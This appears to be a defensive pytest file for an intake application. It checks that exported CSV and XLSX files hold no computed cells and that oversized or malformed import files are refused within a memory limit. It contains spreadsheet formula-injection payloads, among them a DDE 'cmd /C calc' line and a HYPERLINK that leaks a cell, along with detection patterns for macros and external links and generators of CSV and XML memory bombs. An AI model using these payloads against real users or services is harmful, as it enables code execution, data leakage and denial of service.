"""Tables that come in and go out: no cell is computed by a spreadsheet, and no file eats the memory."""

from __future__ import annotations

import csv
import io
import itertools
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path

import pytest
from openpyxl import load_workbook

from intake_app.bootstrap import open_station
from intake_app.settings import Settings
from intake_app.store.catalogue import open_catalogue
from intake_app.store.importing import import_file
from intake_app.workflow.ports import How
from tests.attacks.conftest import ROOT, intake
from tests.attacks.hostile import table
from tests.store.workbooks import MAIN, by_hand

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "'=1+1",
    '";=1+1',
    'x",=1+1,"',
    "a;=1+1;b",
    "a\t=1+1",
    "a\n=1+1",
)
_SIGNS = "=+-@＝＋－＠"


def is_obeyed(cell: str) -> bool:
    """Whether a spreadsheet would compute the cell: by its first sign that anybody sees, written here apart."""
    if cell[:1] in {"\t", "\r", "\n"}:
        return True
    seen = [one for one in cell if one.isprintable() and not one.isspace()]
    return bool(seen) and seen[0] in _SIGNS


def cells(file: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.read_bytes().decode("utf-8-sig"), newline="")))


def check_uncomputed(file: Path, also: Sequence[str] = ()) -> None:
    """No cell of the CSV is computed, and none begins behind a delimiter inside of a text."""
    text = file.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len(rows) > 1
    found = [cell for row in rows for cell in row if is_obeyed(cell)]
    assert not [cell for cell in found if not re.fullmatch(r"-[0-9]+\.[0-9]{2}", cell)]
    # Every field is in quotes, so that a spreadsheet that cuts at another sign cuts none of them.
    assert re.fullmatch(r'(?:"(?:[^"]|"")*"(?:,|\r?\n))*', text)
    shown = "\n".join(cell for row in rows for cell in row)
    for one in also:
        assert one in shown


def station_of_formulas(folder: Path) -> list[str]:
    """A station whose catalogue has a formula in every free column; the serials of its units."""
    units = folder / "units.csv"
    rows = [
        [f"F-{number}", "S12E4", "Smartvue", f"O{number}", "2026-11-02", "7200.00", "3600.00", *[formula] * 4]
        for number, formula in enumerate(FORMULAS)
    ]
    rows += [
        [formula, "S12E4", "Smartvue", formula, "2026-11-02", "7200.00", "3600.00", "A", "", "", ""]
        for formula in FORMULAS[:6]
    ]
    units.write_text(table(*rows), "utf-8", newline="")
    report = import_file(folder / "station", "units", units, lambda _: True)
    assert not report.bad
    return [row[0] for row in rows]


def test_no_list_that_is_written_is_computed(tmp_path: Path) -> None:
    serials = station_of_formulas(tmp_path)
    station = open_station(Settings(folder=tmp_path / "station", name="=1+1", code="B3"))
    station.bench.sign("=Rosa+1")
    for serial in (serials[1], *serials[-6:]):
        station.bench.open(station.bench.identify(serial), 0)
    station.close()
    for ending in ("csv", "xlsx"):
        file = tmp_path / f"returns.{ending}"
        ended = intake("--station", tmp_path / "station", "export", "returns", "--out", file, home=tmp_path)
        assert ended.returncode == 0, ended.stderr
    check_uncomputed(tmp_path / "returns.csv", [serials[1], "'@SUM"])
    check_workbook(tmp_path / "returns.xlsx")


def check_workbook(file: Path) -> None:
    """A workbook without formulas, links, macros or data connections; every text is one."""
    with zipfile.ZipFile(file) as parts:
        names = parts.namelist()
        assert not [name for name in names if re.search(r"vba|external|connection|query|embed|activeX|ddeLink", name)]
        for name in names:
            content = parts.read(name)
            assert not re.search(rb"<(?:\w+:)?f[ >/]|ddeLink|TargetMode=\"External\"", content), name
    for row in load_workbook(file).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert not isinstance(cell.value, str) or not is_obeyed(cell.value) or cell.quotePrefix


def test_the_list_of_bad_rows_is_not_computed_and_comes_back_to_the_letter(tmp_path: Path) -> None:
    """A supplier's file whose bad rows are formulas: listed for a person with a spreadsheet, corrected, imported."""
    headings = ("Serial", "Order date", "Customer", "=Extra")
    rows = [[f"B-{number}", "=soon", formula, formula] for number, formula in enumerate(FORMULAS)]
    file, listed = tmp_path / "units.csv", tmp_path / "bad.csv"
    file.write_text(table(*rows, headings=headings), "utf-8", newline="")
    how = How(skip_bad=True, bad_rows=listed)
    report = import_file(tmp_path / "station", "units", file, lambda _: True, how)
    assert report.bad_count == len(rows)
    check_uncomputed(listed)
    again = tmp_path / "again.csv"
    import_file(tmp_path / "station", "units", listed, lambda _: True, How(skip_bad=True, bad_rows=again))
    assert [row[:4] for row in cells(again)] == [row[:4] for row in cells(listed)]

    listed.write_bytes(listed.read_bytes().replace(b'"\'=soon"', b'"2026-11-02"'))
    report = import_file(tmp_path / "station", "units", listed, lambda _: True)
    assert (report.new, report.bad_count) == (len(rows), 0)
    with open_catalogue(tmp_path / "station") as catalogue:
        for number, formula in enumerate(FORMULAS):
            (sale,) = catalogue.sales_of_serial(f"B-{number}")
            assert sale.customer.name == formula.strip()
            assert sale.extra == {"=Extra": formula}


MEGABYTES = 600
"""Of address space for the whole program; a plain import takes 250."""


def limited(*words: object, home: Path) -> subprocess.CompletedProcess[bytes]:
    """The command in a process that may not take more memory, nor more than a minute."""
    command = [sys.executable, "-X", "utf8", "-m", "intake_app", *map(str, words)]
    return subprocess.run(
        ["/bin/sh", "-c", f'ulimit -v {MEGABYTES * 1024}; exec "$@"', "sh", *command],
        cwd=home,
        env=os.environ | {"PYTHONPATH": str(ROOT)},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=60,
        check=False,
    )


def a_gigabyte_in_one_line(path: Path) -> None:
    """A sparse file: a header, two megabytes of text, and nothing but NULs up to a gigabyte."""
    with path.open("wb") as file:
        file.write(b"Serial,Model\nSV-1,")
        file.write(b"x" * (2 << 20))
        file.truncate(1 << 30)


def a_quotation_mark_that_is_never_closed(path: Path) -> None:
    with path.open("wb") as file:
        file.write(b'Serial,Model\nSV-1,"')
        for _ in range(200):
            file.write(b"x\n" * (1 << 19))


def many_columns(path: Path) -> None:
    path.write_bytes(b"Serial,Model" + b",c" * 2_000_000 + b"\nSV-1,S12E4\n")


def with_sheet(path: Path, pieces: Iterable[bytes]) -> None:
    by_hand(path, "<row/>")
    with zipfile.ZipFile(path) as before:
        parts = {name: before.read(name) for name in before.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as book:
        for name, part in parts.items():
            if not name.endswith("sheet1.xml"):
                book.writestr(name, part)
        name = next(name for name in parts if name.endswith("sheet1.xml"))
        with book.open(name, "w", force_zip64=True) as sheet:
            for piece in pieces:
                sheet.write(piece)


def a_cell_of_a_quarter_gigabyte(path: Path) -> None:
    start = f'<worksheet xmlns="{MAIN}"><sheetData><row><c t="str"><v>'.encode()
    with_sheet(path, [start, *itertools.repeat(b"x" * (1 << 20), 250)])


def many_empty_cells(path: Path) -> None:
    headings = '<row><c t="str"><v>Serial</v></c><c t="str"><v>Model</v></c></row>'
    start = f'<worksheet xmlns="{MAIN}"><sheetData>{headings}'.encode()
    row = b"<row>" + b"<c/>" * 16_000 + b"</row>"
    with_sheet(path, [start, *itertools.repeat(row, 20), b"</sheetData></worksheet>"])


def an_attribute_without_end(path: Path) -> None:
    start = f'<worksheet xmlns="{MAIN}"><sheetData><row r="'.encode()
    with_sheet(path, [start, *itertools.repeat(b"1" * (1 << 20), 100)])


def elements_in_one_another(path: Path) -> None:
    start = f'<worksheet xmlns="{MAIN}"><sheetData><row><c>'.encode()
    with_sheet(path, [start, *itertools.repeat(b"<v>" * (1 << 18), 5)])


BOMBS: dict[str, Callable[[Path], None]] = {
    "a gigabyte in one line.csv": a_gigabyte_in_one_line,
    "a quotation mark that is never closed.csv": a_quotation_mark_that_is_never_closed,
    "two million columns.csv": many_columns,
    "a cell of a quarter gigabyte.xlsx": a_cell_of_a_quarter_gigabyte,
    "an attribute without end.xlsx": an_attribute_without_end,
    "elements in one another.xlsx": elements_in_one_another,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_refused_in_a_sentence_and_in_little_memory(name: str, tmp_path: Path) -> None:
    BOMBS[name](tmp_path / name)
    ended = limited("--station", tmp_path / "station", "import", "units", tmp_path / name, home=tmp_path)
    told = ended.stderr.decode()
    assert ended.returncode == 2, told[-2_000:]
    assert "Traceback" not in told
    assert "fault of its own" not in told
    assert 0 < len(told) < 5_000
    with open_catalogue(tmp_path / "station") as catalogue:
        assert catalogue.counts() == (0, 0)


def test_many_empty_cells_cost_no_memory(tmp_path: Path) -> None:
    many_empty_cells(tmp_path / "empty.xlsx")
    ended = limited("--station", tmp_path / "station", "import", "units", tmp_path / "empty.xlsx", home=tmp_path)
    assert (ended.returncode, ended.stderr) == (0, b"")
    assert b"0 rows read" in ended.stdout


def test_the_control_goes_in_within_that_memory(tmp_path: Path) -> None:
    file = tmp_path / "units.csv"
    file.write_text(table(["SV-1", "S12E4", "Smartvue", "O-1", "2026-11-02", "1.00", "1.00", "A", "", "", ""]), "utf-8")
    ended = limited("--station", tmp_path / "station", "import", "units", file, home=tmp_path)
    assert ended.returncode == 0, ended.stderr
